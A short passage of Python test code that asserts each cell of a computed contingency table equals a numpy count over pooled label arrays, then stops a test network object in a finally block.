            for j, cl in enumerate(res["col_labels"]):
                assert res["counts"][i][j] == int(
                    np.sum((pooled_s == rl) & (pooled_o == cl)))
    finally:
        net.stop()
